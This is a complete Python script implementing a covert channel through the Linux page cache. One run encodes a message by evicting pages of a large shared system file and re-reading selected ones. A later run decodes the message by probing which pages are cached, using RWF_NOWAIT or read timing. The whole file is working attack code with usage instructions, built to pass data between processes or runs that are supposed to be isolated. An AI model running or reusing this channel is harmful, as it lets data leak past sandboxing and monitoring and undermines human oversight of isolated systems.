"""Covert channel through the page cache: one run leaves a message in which pages are cached, a later one reads it.

`python3 -I -c THIS send HEX` in the first place, `… receive BYTES` in a later one. Both find the same file by
themselves: the largest one that neither runs from. The first empties its cache, then reads a page for each 1 of the
message; the other asks which pages are there (`RWF_NOWAIT`), or, where that cannot be asked, takes the time of a read.

Standard library only; prints one JSON object.
"""

from __future__ import annotations

import json
import mmap
import os
import statistics
import sys
import time
from collections.abc import Iterator, Sequence
from contextlib import suppress
from pathlib import Path

FOLDERS = ("/usr", sys.base_prefix)
APART = 4  # pages between two bits, at least


def largest() -> str:
    """Find the largest file that this process does not run from."""
    used = {line.split()[-1] for line in Path("/proc/self/maps").read_text().splitlines() if "/" in line}
    best = (0, "")
    for file in files():
        if file > best and os.access(file[1], os.R_OK) and os.path.realpath(file[1]) not in used:
            best = file
    return best[1]


def files() -> Iterator[tuple[int, str]]:
    """Yield size and path of every file that is no link: tens of thousands, so each is asked no more than that."""
    folders = list(FOLDERS)
    while folders:
        with suppress(OSError), os.scandir(folders.pop()) as entries:
            for entry in entries:
                if entry.is_dir(follow_symlinks=False):
                    folders.append(entry.path)
                elif entry.is_file(follow_symlinks=False):
                    yield entry.stat(follow_symlinks=False).st_size, entry.path


def size(path: str) -> int:
    """Return the length of a file."""
    return Path(path).lstat().st_size


def offsets(path: str, count: int) -> list[int]:
    """Say where the page of each bit lies."""
    step = size(path) // mmap.PAGESIZE // count
    if step < APART:
        raise ValueError("no file is large enough")
    return [place * step * mmap.PAGESIZE for place in range(count)]


def opened(path: str) -> int:
    """Open a file so that a read fetches one page and no more."""
    descriptor = os.open(path, os.O_RDONLY)
    os.posix_fadvise(descriptor, 0, 0, os.POSIX_FADV_RANDOM)
    return descriptor


def empty(descriptor: int) -> None:
    """Throw the pages of a file out of memory."""
    os.posix_fadvise(descriptor, 0, 0, os.POSIX_FADV_DONTNEED)


def send(message: bytes) -> dict[str, object]:
    """Leave a message."""
    path = largest()
    bits = [byte >> place & 1 for byte in message for place in range(8)]
    file = opened(path)
    empty(file)
    for bit, offset in zip(bits, offsets(path, len(bits)), strict=True):
        if bit:
            os.pread(file, 1, offset)
    return {"file": path}


def receive(length: int) -> dict[str, object]:
    """Read one, and clear the page for the next."""
    path = largest()
    file = opened(path)
    places = offsets(path, 8 * length)
    try:
        bits, how = asked(file, places), "RWF_NOWAIT"
    except OSError:
        bits, how = timed(file, places), "the clock"
    empty(file)
    values = [sum(bit << place for place, bit in enumerate(bits[at : at + 8])) for at in range(0, len(bits), 8)]
    return {"file": path, "how": how, "message": bytes(values).hex()}


def asked(file: int, places: Sequence[int]) -> list[int]:
    """Ask of each page whether it is there."""
    bits = []
    for place in places:
        try:
            os.preadv(file, [bytearray(1)], place, os.RWF_NOWAIT)
            bits.append(1)
        except BlockingIOError:
            bits.append(0)
    return bits


def timed(file: int, places: Sequence[int]) -> list[int]:
    """Tell from the time of each read, against that of pages between, which nobody sent: read for once, and again."""
    times = [taken(file, place) for place in places]
    between = [place + APART // 2 * mmap.PAGESIZE for place in places]
    absent, present = ([taken(file, place) for place in between] for _ in range(2))
    limit = (statistics.median(absent) * statistics.median(present)) ** 0.5
    return [int(latency < limit) for latency in times]


def taken(file: int, place: int) -> int:
    """Give the time that a read of one byte takes, in nanoseconds."""
    begun = time.perf_counter_ns()
    os.pread(file, 1, place)
    return time.perf_counter_ns() - begun


if __name__ == "__main__":
    verb, word = sys.argv[1:]
    sys.stdout.write(json.dumps(send(bytes.fromhex(word)) if verb == "send" else receive(int(word))) + "\n")
